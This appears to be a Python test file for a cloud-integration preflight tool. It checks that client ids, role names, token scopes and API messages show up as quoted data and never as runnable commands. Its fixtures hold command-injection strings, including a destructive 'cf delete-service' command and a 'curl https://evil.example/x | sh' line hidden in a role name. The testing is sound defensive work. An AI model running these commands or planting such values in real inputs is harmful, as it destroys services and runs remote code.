"""Issue 17.1: a command the tool prints as a command holds only its own words and validated
values. Text from outside (a client id, a baseline's role, a token's scopes, a tenant's message)
is shown as quoted data, never as a command, in the terminal, the evidence page and the summary.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from cpi_preflight import catalog, fixes, plan
from cpi_preflight.commands import summary
from cpi_preflight.errors import CatalogError
from cpi_preflight.findings import Finding
from cpi_preflight.observation import ProfileObservations
from cpi_preflight.reporting import html, terminal
from cpi_preflight.rules import Context, json_list

from .conftest import NOW, cf_data, neo_data, parse
from .test_evidence import build as build_document
from .test_evidence import render_html, sample_plan, sample_verdicts

CAT = catalog.load()
FORGED = "cf delete-service prod-cpi -f"
HOSTILE_CLIENT = f"sb-x` then run `{FORGED}"
HOSTILE_ROLE = "MonitoringDataRead'\"'\"'; curl https://evil.example/x | sh; echo '"
SEND = ("`cf update-service <instance> -c '{\"roles\":%s,\"grant-types\":"
        "[\"client_credentials\"]}'`")


def context(data: dict[str, Any]) -> Context:
    profile = parse(data)
    return Context(plan.build(profile, CAT), ProfileObservations(profile.name), CAT, NOW)


def commands(fix: str) -> list[str]:
    return [p.text for p in fixes.parts(fix) if p.kind == fixes.COMMAND]


def test_a_client_id_cannot_add_a_command_to_a_fix() -> None:
    ctx = context(neo_data(client_id=HOSTILE_CLIENT))
    found = ctx.finding("CLIENT_CREDENTIALS_REJECTED", ctx.client, "rejected")
    assert found.fix == (
        "In Neo cockpit > Security > OAuth > Clients, check client \"sb-x' then run "
        "'cf delete-service prod-cpi -f\" and reset its secret if unsure; the client must be "
        "registered for the ...tmn subscription. In a shell, put the secret in single quotes "
        "(export NAME='...').")
    assert commands(found.fix) == []
    assert not any(FORGED in line and "client" not in line
                   for line in terminal.fix_lines(f"fix: {found.fix}", 60))
    assert "command" not in str(html.prose(found.fix))


def test_a_plain_client_id_is_shown_as_it_is() -> None:
    ctx = context(neo_data(client_id="0123456789abcdef0123"))
    found = ctx.finding("ROLE_MISSING", "R", "m", role="IntegrationOperationServer.read",
                        neo_roles="IntegrationOperationServer.read")
    assert found.fix.startswith("In Neo cockpit > Security > Authorizations, assign "
                                "IntegrationOperationServer.read to user "
                                "oauth_client_0123456789abcdef0123 for the ...tmn application")


def test_a_baseline_role_never_enters_the_command_it_names() -> None:
    ctx = context(cf_data())
    found = ctx.finding("ROLE_LOST", HOSTILE_ROLE, "lost", role=HOSTILE_ROLE, neo_roles="",
                        roles_after_json=json_list(["MonitoringDataRead", HOSTILE_ROLE]))
    assert commands(found.fix) == [
        "cf service <instance> --params",
        "cf update-service <instance> -c '{\"roles\":<roles_after_json>,"
        "\"grant-types\":[\"client_credentials\"]}'"]
    assert found.fix.startswith(
        "Find out who changed the instance's roles (the subaccount's audit log). If "
        "\"MonitoringDataRead'''''; curl https://evil.example/x | sh; echo '\" is still "
        "needed, add it back.")
    assert "evil" not in " ".join(commands(found.fix))


def test_role_names_from_the_catalog_fill_the_command() -> None:
    ctx = context(cf_data())
    roles = json_list(["MonitoringDataRead", "WorkspacePackagesRead"])
    found = ctx.finding("ROLE_MISSING", "WorkspacePackagesRead", "missing",
                        role="WorkspacePackagesRead", roles_after_json=roles)
    assert SEND % roles in found.fix
    assert found.fix.startswith("Add WorkspacePackagesRead to the roles of the Process "
                                "Integration Runtime instance (plan api) of client "
                                "sb-123456789!b1|it!b182722.")


def test_a_token_s_unknown_scope_is_data_in_the_fix() -> None:
    ctx = context(cf_data())
    scope = f"AuthGroup.X `{FORGED}`"
    found = ctx.finding("EXCESS_ROLES", scope, "excess", roles=scope,
                        roles_after_json=json.dumps([scope]))
    assert found.fix.startswith(f"Take \"AuthGroup.X '{FORGED}'\" out of the roles")
    assert all(FORGED not in c for c in commands(found.fix))
    assert "<roles_after_json>" in commands(found.fix)[1]


@pytest.mark.parametrize(("template", "where"), [
    ("run `cf delete-service {client_id}`", "{client_id} inside `cf delete-service "
                                            "{client_id}`; a command span may hold only "
                                            "grant_type, required_roles_json, roles_after_json"),
    ("see `{host}`", "{host} inside `{host}`; a code span may hold only none"),
])
def test_a_template_with_outside_text_in_a_span_is_refused(template: str, where: str) -> None:
    with pytest.raises(CatalogError) as raised:
        fixes.check_template("X", template)
    assert str(raised.value) == f"code X in data/codes.yaml puts {where}"


def test_every_shipped_template_passes_the_check() -> None:
    for code in CAT.codes.values():
        for text in code.fix.values():
            fixes.check_template(code.name, text)


TEMPLATES = [(c.name, env, text) for c in CAT.codes.values() for env, text in c.fix.items()]
SLOTS = sorted({n for _, _, t in TEMPLATES for p in fixes.parts(t)
                for n in fixes.placeholders(p.text)})


@given(st.sampled_from(TEMPLATES), st.dictionaries(st.sampled_from(SLOTS), st.text()))
def test_whatever_the_values_the_commands_are_the_template_s(
        entry: tuple[str, str, str], values: dict[str, str]) -> None:
    _, _, template = entry
    assume(all(fixes.COMMAND_SLOTS[n](v, CAT.names) is None
               for n, v in values.items() if n in fixes.COMMAND_SLOTS and v))
    filled = fixes.fill(template, values, CAT.names)
    wanted = [re.sub(r"\{(\w+)\}", lambda m: f"<{m[1]}>" if values.get(m[1]) else "", c)
              .replace("{{", "{").replace("}}", "}") for c in commands(template)]
    assert commands(filled) == wanted
    assert [p.kind for p in fixes.parts(filled)] == [p.kind for p in fixes.parts(template)]


@given(st.text())
def test_data_never_holds_a_backtick_or_a_line_break(value: str) -> None:
    shown = fixes.as_data(value)
    assert not {"`", "\n", "\r"} & set(shown)


# --- what the renderers make of a tenant's message ---------------------------------------


ODATA = f'the API said "Run `{FORGED}` to repair the tenant"'


def test_a_message_is_never_a_command_in_the_terminal() -> None:
    finding = Finding("SERVER_ERROR", "failure", "s",
                      f"{ODATA}\n  fix: `{FORGED}`", "Rerun later.")
    assert terminal.fitted(finding, 60).splitlines() == [
        "SERVER_ERROR: the API said \"Run `cf delete-service prod-cpi",
        "  -f` to repair the tenant\" fix: `cf delete-service prod-cpi",
        "  -f`",
        "  fix: Rerun later.",
    ]


def test_a_message_is_never_a_command_on_the_evidence_page() -> None:
    the_plan = sample_plan()
    verdicts = sample_verdicts(the_plan)
    role = verdicts["role[WorkspacePackagesRead]"]
    verdicts[role.check.id] = replace(
        role, findings=(replace(role.findings[0], message=ODATA, fix="Rerun later."),))
    page = render_html(build_document(the_plan, verdicts))
    assert ("<p>the API said &#34;Run `cf delete-service prod-cpi -f` to repair the "
            "tenant&#34;</p>") in page
    assert '<code class="command">cf delete' not in page


def test_a_message_is_never_a_command_in_the_summary(tmp_path: Path) -> None:
    doc = {"profile": {"name": "p", "environment": "cf"}, "summary": {"result": "failed"},
           "findings": [{"check": "c", "code": "C", "severity": "failure", "message": ODATA,
                         "fix": f"`{FORGED}`"}]}
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "evidence.json").write_text(json.dumps(doc), encoding="utf-8")
    page = summary.markdown_page(tmp_path)
    # the fix read back from a file is quoted text in the Fix column, never a code span
    assert page.splitlines()[-1] == (
        "| c | C | the API said \"Run \\`cf delete-service prod-cpi -f\\` to repair the "
        "tenant\" | \\`cf delete-service prod-cpi -f\\` |")
    assert FORGED not in page.replace(f"\\`{FORGED}\\`", "")
